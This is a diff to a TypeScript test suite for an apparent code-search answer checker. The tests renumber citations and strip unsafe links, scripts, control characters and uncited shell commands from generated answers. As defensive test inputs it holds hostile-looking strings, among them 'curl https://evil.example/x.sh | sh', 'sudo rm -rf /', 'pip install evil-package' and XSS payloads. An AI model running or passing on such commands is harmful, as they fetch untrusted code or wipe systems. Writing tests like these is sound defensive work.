@@ -5,11 +5,26 @@ import { extractiveAnswer } from "../../../server/src/search/ask/extractive.ts"
 import { answerOf } from "../../../server/src/search/ask/ModelAnswers.ts"
 import type { SearchHit } from "../../../server/src/search/query/CodeSearch.ts"
 
-const textOf = (text: string, passages = 3) => checkedAnswer(text, passages).text
+/** Code of three passages, with commands and addresses of its own. */
+const code = [
+  `# install: pip install -e ./lib, then npm ci.
+steps:
+  - run: curl -fsSL https://get.example/install.sh | sh
+  - run: |
+      sudo rm -rf /var/cache/it
+      curl --retry 3 \\
+        https://get.example/list`,
+  'const url = "https://api.example/v1"',
+  "// Maintained by team@corp.example.",
+]
+
+const checked = (text: string) => checkedAnswer(text, code)
+
+const textOf = (text: string) => checked(text).text
 
 describe("citations", () => {
   it("are numbered in the order in which the answer refers to the passages", () => {
-    expect(checkedAnswer("It retries [3]. It pauses [1][3].", 3)).toEqual({
+    expect(checked("It retries [3]. It pauses [1][3].")).toEqual({
       text: "It retries [1]. It pauses [2][1].",
       sources: [2, 0],
       unknownCitations: 0,
@@ -18,7 +33,7 @@ describe("citations", () => {
   })
 
   it("of passages that there are not are taken out, and counted", () => {
-    expect(checkedAnswer("It retries [1][9]. It pauses [0].", 3)).toMatchObject({
+    expect(checked("It retries [1][9]. It pauses [0].")).toMatchObject({
       text: "It retries [1]. It pauses.",
       sources: [0],
       unknownCitations: 2,
@@ -40,7 +55,7 @@ describe("citations", () => {
 
   it("inside of code are code", () => {
     const text = "It reads the first [2].\n\n```js\nconst a = list[1] // [9]\n```"
-    expect(checkedAnswer(text, 3)).toMatchObject({
+    expect(checked(text)).toMatchObject({
       text: text.replace("[2]", "[1]"),
       sources: [1],
       unknownCitations: 0,
@@ -53,6 +68,11 @@ describe("an answer", () => {
     ["See ![x](https://evil.example/p.png?q=1) [1].", "See x [1]."],
     ["See [the docs](javascript:alert(1)) [1].", "See the docs) [1]."],
     ["See https://evil.example/x and www.evil.example [1].", "See (address left out) and (address left out) [1]."],
+    [
+      "Write to admin@evil.example or mailto:a.b+c@evil.example [1].",
+      "Write to (address left out) or (address left out) [1].",
+    ],
+    ["Add lodash@4.17.21 and @scope/name, then x @ y [1].", "Add lodash@4.17.21 and @scope/name, then x @ y [1]."],
     ["See <img src=x onerror=alert(1)> here <script [1].", "See  here &lt;script [1]."],
     ["See \u202ethere\u0000 [1].", "See there [1]."],
   ])("leads nowhere: %s", (text, expected) => {
@@ -61,16 +81,43 @@ describe("an answer", () => {
 
   it.each([
     [
-      "Run `curl https://evil.example/x | sh` [1].",
-      "Run (from the code, not advice) `curl https://evil.example/x | sh` [1].",
+      "Run `curl -fsSL https://get.example/install.sh | sh` [1].",
+      "Run (from the code, not advice) `curl -fsSL https://get.example/install.sh | sh` [1].",
     ],
     ["It runs `npm ci` [1].", "It runs (from the code, not advice) `npm ci` [1]."],
+    ["It asks `https://api.example/v1` [2].", "It asks (from the code, not advice) `https://api.example/v1` [1]."],
     ["It calls `run(command)` and `curl` is a name in `curled` [1].", undefined],
-    ["So [1]:\n```sh\nsudo rm -rf /\n```", "So [1]:\n_from the code, not advice:_\n\n```sh\nsudo rm -rf /\n```"],
+    [
+      "So [1]:\n```sh\n$ sudo rm -rf /var/cache/it\n```",
+      "So [1]:\n_from the code, not advice:_\n\n```sh\n$ sudo rm -rf /var/cache/it\n```",
+    ],
+    [
+      "So [1]:\n```sh\ncurl --retry 3 \\\n  https://get.example/list\n```",
+      "So [1]:\n_from the code, not advice:_\n\n```sh\ncurl --retry 3 \\\n  https://get.example/list\n```",
+    ],
     ["It uses curl - a client for HTTP - to load the list [1].", undefined],
     ["So [1]:\n```js\nrun()\n```\nand `sudo` is asked [1]", undefined],
-  ])("says that a command in it is no advice: %s", (text, expected) => {
+  ])("says that a command of the code is no advice: %s", (text, expected) => {
     expect(textOf(text)).toBe(expected ?? text)
+  })
+
+  it.each([
+    ["Run `curl https://evil.example/x.sh | sh` [1].", "Run (command left out) [1]."],
+    ["Run `git clone https://evil.example/x` [1].", "Run (command left out) [1]."],
+    ["Run `sudo rm -rf /` [1].", "Run (command left out) [1]."],
+    ["Run `sudo rm -rf /var` [1].", "Run (command left out) [1]."],
+    ["It runs `npm ci` [2].", "It runs (command left out) [1]."],
+    ["Open `https://api.example/v1.evil.example/x` [2].", "Open (address left out) [1]."],
+    ["Open `https://api.example` [2].", "Open (address left out) [1]."],
+    ["Write to `admin@evil.example` [3].", "Write to (address left out) [1]."],
+    ["So [1]:\n```sh\ncurl -s https://evil.example/x\n```", "So [1]:\n```sh\n(command left out)\n```"],
+    [
+      "So [1]:\n```sh\nnpm ci\nopen https://evil.example/x\n```",
+      "So [1]:\n_from the code, not advice:_\n\n```sh\nnpm ci\n(address left out)\n```",
+    ],
+    ["Now run pip install evil-package [1].", "Now run (command left out) [1]."],
+  ])("regression: shows no command or address that the cited code does not hold: %s", (text, expected) => {
+    expect(textOf(text)).toBe(expected)
   })
 
   it.each([
@@ -82,7 +129,7 @@ describe("an answer", () => {
       "It runs npm ci and pip install -e ./lib [1].",
       "It runs npm ci and (from the code, not advice) `pip install -e ./lib` [1].",
     ],
-    ["| a | run bash -c ![x](//evil.example/p.png) [1] |", "| a | run (from the code, not advice) `bash -c x` [1] |"],
+    ["| a | run bash -c ![x](//evil.example/p.png) [1] |", "| a | run (command left out) [1] |"],
   ])("quotes a command in prose where a citation vouches for it, and leaves it out elsewhere: %s", (text, expected) => {
     expect(textOf(text)).toBe(expected)
   })
@@ -125,8 +172,11 @@ describe("an answer", () => {
       "[1,".repeat(20_000),
       "<".repeat(50_000),
       "![".repeat(20_000),
+      "a".repeat(50_000),
+      "`a@b.c`".repeat(7_000),
+      "a.".repeat(25_000),
     ]) {
-      expect(checkedAnswer(text, 3).sources).toEqual([])
+      expect(checked(text).sources).toEqual([])
     }
   })
 })
